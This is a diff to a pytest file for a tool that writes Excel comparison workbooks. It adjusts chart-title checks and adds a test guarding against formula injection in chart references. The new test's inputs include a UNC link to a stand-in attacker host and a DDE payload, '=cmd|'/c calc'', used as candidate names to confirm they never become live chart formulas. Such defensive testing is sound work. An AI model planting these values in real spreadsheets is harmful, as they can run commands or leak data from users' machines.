@@ -4,6 +4,7 @@
 
 from __future__ import annotations
 
+import html
 import random
 import re
 import shutil
@@ -22,6 +23,7 @@ import pytest
 import python_calamine
 from openpyxl.worksheet.cell_range import CellRange
 
+from reportgen import evaluation
 from reportgen.domain.deciding import what_if as arithmetic
 from reportgen.domain.records import review_columns
 from reportgen.domain.records.comparison import Comparison, Status
@@ -36,6 +38,7 @@ from reportgen.reports.xlsx.sheet_writer import SheetError, must
 from reportgen.reports.xlsx.what_if import INPUT_ROW, plan_of
 from reportgen.reports.xlsx.workbook import sheet_names, write
 from tests.builders import comparison_for
+from tests.small_workbooks import baseline, tickets
 
 CONTRACT = (
     "Decision",
@@ -286,7 +289,7 @@ def test_the_chart_of_labels_and_fields_shows_the_candidate_of_its_title(task: T
     book = loaded(written(comparison_for(task), tmp_path))
     sheet = book["By label" if task is Task.CLASSIFICATION else "By field"]
     [chart] = sheet._charts  # noqa: SLF001 - openpyxl shows charts nowhere else
-    title = "".join(run.t for paragraph in chart.title.tx.rich.p for run in paragraph.r or ())
+    title = str(sheet[chart.title.tx.strRef.f.partition("!")[2].replace("$", "")].value)
     drawn = chart.series[0].val.numRef.f.partition("!")[2].replace("$", "")
     heads = next(r for r in sheet.iter_rows(values_only=True) if "F1 minus" in r)
     shown = [row[0].row for row in sheet[drawn]]
@@ -575,3 +578,17 @@ def test_the_costs_sheet_shows_what_the_choice_hangs_on(any_task: tuple[Comparis
     words = [c.value for c in sheet["A"] if isinstance(c.value, str)]
     assert "What knowing more would be worth" in words
     assert "Who would be chosen if one level were set elsewhere, the others kept" in words
+
+
+@pytest.mark.usefixtures("figures_only")
+def test_a_name_that_a_chart_would_take_for_a_formula_stands_in_a_cell_that_the_chart_refers_to(tmp_path: Path) -> None:
+    names = ("Yahoo!AI2", "='\\\\attacker.example\\s\\[b.xlsx]S'!A1", "=cmd|'/c calc'!A1", "Sheet1!$A$1")
+    made = [{**baseline("majority"), "Candidate": name} for name in names]
+    comparison, _ = evaluation.evaluate(tickets(tmp_path / "t.xlsx", candidates=made), environment={})
+    with zipfile.ZipFile(written(comparison, tmp_path)) as archive:
+        charts = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart"))
+        sheets = {s.title for s in loaded(tmp_path / "comparison.xlsx")}
+    formulas = [html.unescape(found) for found in re.findall("<c:f>(.*?)</c:f>", charts)]
+    assert formulas
+    assert {f.rpartition("!")[0].strip("'") for f in formulas} <= sheets
+    assert "attacker" not in "".join(formulas)
